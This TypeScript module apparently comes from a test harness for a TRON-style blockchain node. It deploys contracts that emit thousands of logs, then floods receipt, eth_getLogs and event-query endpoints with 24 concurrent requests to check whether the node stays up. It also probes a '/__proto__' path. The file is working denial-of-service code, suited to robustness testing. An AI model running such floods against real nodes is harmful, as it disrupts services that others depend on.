/** Queries of transactions with thousands of logs. */

import { setTimeout as sleep } from "node:timers/promises";
import { toHex } from "../../../src/protocol/bytes.js";
import { assemble } from "../../node/vm/assembler.js";
import { ask } from "../ask.js";
import { type Attack, attackerHost, tally } from "../attack.js";
import type { Ports } from "../template.js";
import type { Victim } from "../victim.js";
import { creation, headOf, send } from "./transactions.js";

/** Emits `logs` logs without topics and data. */
const logging = (logs: number): string =>
	toHex(
		assemble(
			`0x${logs.toString(16).padStart(4, "0")} loop: 0x00 0x00 LOG0 0x01 SWAP1 SUB DUP1 @loop JUMPI STOP`,
		),
	);

/** Creates transactions with many logs, and waits until they are in blocks. @returns their ids */
async function makeLogs(victim: Victim, transactions: number, logs: number): Promise<readonly string[]> {
	const head = await headOf(victim);
	const made = Array.from({ length: transactions }, (_, n) => creation(head, logging(logs), n));
	for (const transaction of made) await send(victim, transaction, attackerHost(0));
	const last = made.at(-1)?.idHex ?? "";
	for (let turn = 0; turn < 150; turn++) {
		const text = await ask(
			victim.ports.http,
			"/wallet/gettransactioninfobyid",
			JSON.stringify({ value: last }),
		);
		if (text.includes("blockNumber")) break;
		await sleep(100);
	}
	return made.map(({ idHex }) => idHex);
}

interface Question {
	readonly port: (ports: Ports) => number;
	readonly path: string;
	/** Undefined for GET. */
	readonly body?: string;
}

function questions(
	name: string,
	sends: string,
	transactions: number,
	make: (id: string, block: number) => readonly Question[],
	configuration?: string,
): Attack {
	return {
		name,
		sends,
		...(configuration === undefined ? {} : { configuration: () => configuration }),
		async run(victim, durationMs) {
			const ids = await makeLogs(victim, transactions, 5_000);
			const info = await ask(
				victim.ports.http,
				"/wallet/gettransactioninfobyid",
				JSON.stringify({ value: ids.at(-1) }),
			);
			const block = Number(/"blockNumber":\s*(\d+)/.exec(info)?.[1]);
			const asked = make(ids.at(-1) ?? "", block);
			const outcomes: string[] = [];
			const end = Date.now() + durationMs;
			const one = async (n: number): Promise<void> => {
				for (let turn = n; Date.now() < end; turn++) {
					const { port, path, body } = asked[turn % asked.length] as Question;
					const options = {
						host: attackerHost(n % 8),
						timeoutMs: 30_000,
						method: body === undefined ? "GET" : "POST",
						headers: { "content-type": "application/json" },
					} as const;
					const text = await ask(port(victim.ports), path, body ?? "", options).catch(() => "closed");
					outcomes.push(text === "closed" ? text : text.length > 1_000 ? "answered" : "short answer");
				}
			};
			await Promise.all(Array.from({ length: 24 }, (_, n) => one(n)));
			return tally(outcomes);
		},
	};
}

const http = ({ http: port }: Ports): number => port;
const jsonrpc = ({ jsonrpc: port }: Ports): number => port;
const rpc = (method: string, parameter: unknown): string =>
	JSON.stringify({ jsonrpc: "2.0", id: 1, method, params: [parameter] });

export const longAnswers: readonly Attack[] = [
	questions(
		"receipts",
		"24 queries at once of receipts with 5,000 logs, and of those of their block, over HTTP and JSON-RPC",
		4,
		(id, block) => [
			{ port: http, path: "/wallet/gettransactioninfobyid", body: JSON.stringify({ value: id }) },
			{ port: http, path: "/wallet/gettransactioninfobyblocknum", body: JSON.stringify({ num: block }) },
			{ port: jsonrpc, path: "/jsonrpc", body: rpc("eth_getTransactionReceipt", `0x${id}`) },
			{ port: jsonrpc, path: "/jsonrpc", body: rpc("eth_getBlockReceipts", `0x${block.toString(16)}`) },
		],
	),
	questions("get-logs", "24 eth_getLogs at once of blocks with 10,000 logs", 2, (_id, block) => {
		const number = `0x${block.toString(16)}`;
		const all = rpc("eth_getLogs", { fromBlock: "0x0", toBlock: number });
		return [
			{ port: jsonrpc, path: "/jsonrpc", body: all },
			{ port: jsonrpc, path: "/jsonrpc", body: rpc("eth_getLogs", { fromBlock: number, toBlock: number }) },
		];
	}),
	questions(
		"query-logs",
		"24 queries at once of the event query service and of /v1 about blocks with thousands of logs",
		4,
		(id, block) => [
			{ port: http, path: "/contractlogs?limit=200" },
			{ port: http, path: "/events?limit=200" },
			{ port: http, path: `/contractlogs?limit=200&block=${block}` },
			{ port: http, path: `/contractlogs/transaction/${id}` },
			{ port: http, path: `/v1/blocks/${block}/events?limit=200` },
			{ port: http, path: `/v1/transactions/${id}/events` },
			{ port: http, path: "/v1/accounts/TDshrsWta9TyV5hqGe7MB7oSAHQihvdjkE/__proto__" },
		],
		"node.history.index = on",
	),
];
